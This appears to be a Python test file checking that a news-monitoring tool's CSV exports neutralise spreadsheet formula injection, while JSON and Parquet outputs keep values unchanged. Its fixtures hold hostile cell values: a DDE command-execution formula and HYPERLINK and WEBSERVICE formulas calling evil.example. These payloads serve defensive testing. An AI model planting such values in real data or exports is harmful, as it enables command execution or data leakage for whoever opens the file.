"""Issue 14, finding 8: CSV outputs neutralise spreadsheet formulas (OWASP "CSV Injection"): a text cell
starting with = + - @ tab or CR gets a leading «'»; JSON and Parquet keep the values exactly."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlmodel import select
from typer.testing import CliRunner

from newsmon.cli import app
from newsmon.ingest.importer import import_jsonl
from newsmon.output import FORMULA_STARTS, csv_safe
from newsmon.store.db import dispose_engines, open_session
from newsmon.store.models import Article, Fact
from newsmon.store.summary import rebuild

PERSON = "=cmd|' /C calc'!A0"
PROGRAM = '+HYPERLINK("http://evil.example","click")'
RAW = "-2+3"
UNIT = "@SUM(A1)"
TEXT = "\t=1+1"
TERRITORY = "\r=2+2"
TITLE = '=WEBSERVICE("http://evil.example")'
HOSTILE = (PERSON, PROGRAM, RAW, UNIT, TEXT, TERRITORY, TITLE)


@pytest.fixture
def hostile_db(db_url: str, tmp_path: Path) -> str:
    lines = tmp_path / "a.jsonl"
    lines.write_text(
        json.dumps(
            {
                "url": "https://csv.example/1",
                "title": TITLE,
                "text": "Аким сообщил о программе.",
                "published": "2024-11-20T10:00:00+05:00",
                "lang": "ru",
            },
            ensure_ascii=False,
        )
        + "\n",
        encoding="utf-8",
    )
    assert import_jsonl(lines, database_url=db_url).new == 1
    with open_session(db_url) as session:
        art = session.exec(select(Article)).one()
        common = {
            "article_id": art.id,
            "sentence": "@risky sentence",
            "start": 0,
            "end": 4,
            "confidence": 0.9,
            "extractor": "test",
            "published": art.published,
            "source_id": art.source_id,
            "lang": "ru",
        }
        session.add(Fact(kind="akim", text=TEXT, person=PERSON, role="аким", **common))
        session.add(
            Fact(
                kind="amount",
                text="x",
                value=-5.0,
                unit=UNIT,
                raw=RAW,
                program=PROGRAM,
                territory_name=TERRITORY,
                territory_level="district",
                territory_path=[TERRITORY],
                **common,
            )
        )
        session.flush()
        rebuild(session.connection())  # facts written here, not by extract: the summaries
        session.commit()
    dispose_engines()
    return db_url


def _assert_neutralised(rows: list[dict[str, str]]) -> None:
    assert rows
    cells = [v for r in rows for v in r.values()]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or cell == "-5.0", repr(cell)
    for value in HOSTILE:
        assert "'" + value in cells, value  # the value is still there, after the quote
    assert "-5.0" in cells  # numbers stay numbers


def test_csv_safe() -> None:
    """Finding 8, the rule itself."""
    assert [csv_safe(v) for v in ("=1", "+1", "-1", "@1", "\t1", "\r1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@1",
        "'\t1",
        "'\r1",
    ]
    assert [csv_safe(v) for v in ("1", "Аким", "", -1.5, 3, None)] == [
        "1",
        "Аким",
        "",
        -1.5,
        3,
        None,
    ]


def test_export_csv_neutralises_formulas(hostile_db: str, tmp_path: Path) -> None:
    """Finding 8: `newsmon export facts --format csv` wrote `=cmd|…` as it was."""
    out = tmp_path / "facts.csv"
    res = CliRunner().invoke(app, ["export", "facts", "--format", "csv", "--out", str(out)])
    assert res.exit_code == 0, res.output
    _assert_neutralised(list(csv.DictReader(out.open(encoding="utf-8", newline=""))))


def test_facts_csv_listing_neutralises_formulas(hostile_db: str) -> None:
    """Finding 8: `newsmon facts --format csv` too."""
    res = CliRunner().invoke(app, ["facts", "--format", "csv"])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(res.stdout, newline="")))
    cells = [v for r in rows for v in r.values()]
    assert "'" + PERSON in cells and PERSON not in cells


def test_api_facts_csv_neutralises_formulas_and_json_stays_exact(hostile_db: str) -> None:
    """Finding 8: /api/v1/facts.csv wrote formulas as they were; /api/v1/facts keeps them exact."""
    from newsmon.web import create_app

    with TestClient(create_app(hostile_db)) as client:
        r = client.get("/api/v1/facts.csv")
        assert r.status_code == 200
        _assert_neutralised(list(csv.DictReader(io.StringIO(r.text, newline=""))))
        facts = client.get("/api/v1/facts").json()["facts"]
    akim = next(f for f in facts if f["kind"] == "akim")
    amount = next(f for f in facts if f["kind"] == "amount")
    assert akim["person"] == PERSON and akim["text"] == TEXT and akim["article"]["title"] == TITLE
    assert (amount["program"], amount["unit"], amount["raw"], amount["value"]) == (
        PROGRAM,
        UNIT,
        RAW,
        -5.0,
    )
    assert amount["territory"]["name"] == TERRITORY


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_exports_stay_exact(hostile_db: str, tmp_path: Path, fmt: str) -> None:
    """Finding 8: only CSV is touched."""
    out = tmp_path / f"facts.{fmt}"
    res = CliRunner().invoke(app, ["export", "facts", "--format", fmt, "--out", str(out)])
    assert res.exit_code == 0, res.output
    if fmt == "jsonl":
        facts = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
        rows = [
            {
                "person": f.get("person"),
                "program": f.get("program"),
                "raw": f.get("raw"),
                "unit": f.get("unit"),
                "text": f["text"],
                "article_title": f["article"]["title"],
                "territory_name": (f.get("territory") or {}).get("name"),
            }
            for f in facts
        ]
    else:
        pq = pytest.importorskip("pyarrow.parquet")
        rows = pq.read_table(out).to_pylist()
    values = {v for r in rows for v in r.values() if isinstance(v, str)}
    assert set(HOSTILE) <= values
    assert not any(isinstance(v, str) and v.startswith("'") for v in values)
